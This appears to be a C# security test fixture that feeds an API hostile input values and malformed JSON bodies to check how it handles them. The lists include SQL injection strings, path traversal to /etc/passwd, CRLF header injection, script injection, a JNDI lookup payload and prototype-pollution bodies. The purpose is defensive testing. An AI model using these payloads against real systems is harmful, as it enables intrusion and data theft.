using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Wanwu.Tests.Security.Hostile;

/// <summary>What nobody sends who means well.</summary>
internal static class HostileValues
{
    private static readonly string Long = new('a', 6_000);

    /// <summary>For the address: kept below the length at which the server reads no request line.</summary>
    public static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\u0001\u001b\u007f\u0085", "\r\nX-Injected: 1", "\u202e\U0001F600\u200b\u338f\ufdfa\ufeff", "\u0130\u0131\u00df\u1e9e", "'", "\"", "' OR '1'='1", "'; DROP TABLE Things; --",
        "\" OR 1=1 --", "%' UNION SELECT name, sql FROM sqlite_master --", "*", "%", "_", "$1", "\\", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2fregistry.db",
        "file:///etc/passwd", "registry.db", ".", "..", "-1", "0", "1", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e309", "NaN", "-Infinity", "0x10", "\uff11\uff12", "1,2,3", "true", "null",
        "[]", "{}", "2026-02-30T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "99999-01-01T00:00:00Z", "P99999999Y", "99999999999999d", "<script>alert(1)</script>", "javascript:alert(1)",
        "${jndi:ldap://x.example/a}", "{{7*7}}", "(((((((((((((((a+)+)+)+)+)+)+)+)+)+)+)+)+)+)+!", Long, "00000000-0000-0000-0000-000000000000", "7ZZZZZZZZZZZZZZZZZZZZZZZZZ", "0000000000000_99", "a=b=c", "=",
        "AAAAAAAAAAAAAAAAAAAAAA==", "eyJhIjoxfQ",
    ];

    /// <summary>For a member of a JSON body, as the text of the value.</summary>
    public static readonly string[] Json =
    [
        .. Texts.Select(text => JsonSerializer.Serialize(text)), JsonSerializer.Serialize(new string('b', 70_000)), "\"\\ud800\"", "\"\\udc00\\ud800\"", "null", "true", "false", "0", "-1", "1e400", "-1e400", "1e-400",
        "1E+308", "9223372036854775808", "99999999999999999999999999999999999999", "-0", "0.1", "[]", "{}", "[null]", "[[]]", "[\"x\"]", "[{}]", "{\"\":\"\"}", "{\"a\":1}", "{\"a\":1,\"a\":2}", "{\"zh-Hant\":1}",
        "{\"en\":\"\\u0000\"}", Nested(20), Nested(70), $"[{string.Join(',', Enumerable.Repeat("0", 5_000))}]",
        $"{{{string.Join(',', Enumerable.Range(0, 2_000).Select(i => $"\"k{i.ToString(CultureInfo.InvariantCulture)}\":\"v\""))}}}",
    ];

    /// <summary>Whole bodies, and the type they are said to have (null: none).</summary>
    public static IEnumerable<(byte[]? Body, string? Media)> Bodies(string media, JsonNode? sample)
    {
        foreach (var text in (string[])["", " ", "null", "[]", "{}", "\"x\"", "1", "true", "{", "}", "{\"a\":1,\"a\":1}", "{\"a\":1}x", "\ufeff{}", "{a:1}", "// x\n{}", "[{}]", "[null]", "{\"__proto__\":{\"a\":1}}", Nested(5_000), Nested(31)])
            yield return (System.Text.Encoding.UTF8.GetBytes(text), media);
        yield return (null, media);
        yield return ([0xff, 0xfe, 0x00, 0xd8, 0x80], media);
        yield return ([(byte)'{', (byte)'"', 0xc0, 0xaf, (byte)'"', (byte)':', (byte)'1', (byte)'}'], media);
        var body = System.Text.Encoding.UTF8.GetBytes(sample?.ToJsonString() ?? "{}");
        foreach (var other in (string?[])[null, "text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/json; charset=nonsense", "*/*", "a/b/c"])
            yield return (body, other);
        yield return (System.Text.Encoding.UTF8.GetBytes($"[\"{new string('x', 2_000_000)}\"]"), media);
    }

    private static string Nested(int depth) => new string('[', depth) + new string(']', depth);

    /// <summary>Every place in the body at which one value stands, with the body in which it is replaced by text of the test's.</summary>
    public static IEnumerable<(string Place, Func<string, string> With)> Places(JsonNode body)
    {
        const string Mark = "here-goes-the-value";
        foreach (var place in PathsOf(body, []))
        {
            var copy = body.DeepClone();
            var whole = WithoutNulls(Replace(copy, place, Mark)).ToJsonString();
            yield return (string.Join('/', place), value => whole.Replace($"\"{Mark}\"", value, StringComparison.Ordinal));
        }
    }

    /// <summary>The body without what it says nothing about; not every endpoint takes null for that.</summary>
    public static JsonNode WithoutNulls(JsonNode body)
    {
        if (body is JsonObject members)
            foreach (var name in members.Where(member => member.Value is null).Select(member => member.Key).ToList()) members.Remove(name);
        return body;
    }

    private static IEnumerable<object[]> PathsOf(JsonNode? node, object[] at)
    {
        if (at.Length > 0) yield return at;
        var below = node switch
        {
            JsonObject members => members.Select(member => ((object)member.Key, member.Value)),
            JsonArray items => items.Select((item, i) => ((object)i, item)),
            _ => [],
        };
        foreach (var (step, value) in below)
            foreach (var path in PathsOf(value, [.. at, step])) yield return path;
    }

    private static JsonNode Replace(JsonNode root, object[] place, string value)
    {
        var at = root;
        foreach (var step in place[..^1]) at = step is int i ? at![i] : at![(string)step];
        if (place[^1] is int last) at![last] = value;
        else at![(string)place[^1]] = value;
        return root;
    }
}
